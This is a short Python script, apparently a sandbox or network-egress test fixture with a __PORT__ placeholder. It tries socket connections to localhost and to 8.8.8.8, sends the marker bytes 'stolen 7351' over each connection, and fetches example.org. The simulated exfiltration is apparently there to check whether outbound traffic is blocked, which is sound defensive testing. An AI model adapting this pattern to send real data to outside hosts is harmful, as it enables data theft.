import socket
import urllib.request

for address in (("127.0.0.1", __PORT__), ("8.8.8.8", 53), ("localhost", __PORT__)):
    try:
        with socket.create_connection(address, timeout=0.5) as connection:
            connection.sendall(b"stolen 7351")
        print("connected")
    except OSError as error:
        print(error)
try:
    print(urllib.request.urlopen("http://example.org", timeout=0.5).read())
except OSError as error:
    print(error)
